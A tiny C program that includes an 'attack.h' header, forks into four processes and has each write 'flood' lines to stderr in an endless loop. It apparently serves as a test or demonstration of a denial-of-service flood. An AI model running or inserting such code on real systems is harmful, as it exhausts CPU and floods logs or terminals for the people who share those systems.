#include "attack.h"

int main(void) {
  fork();
  fork();
  for (;;) write(2, "flood flood flood flood flood\n", 30);
}
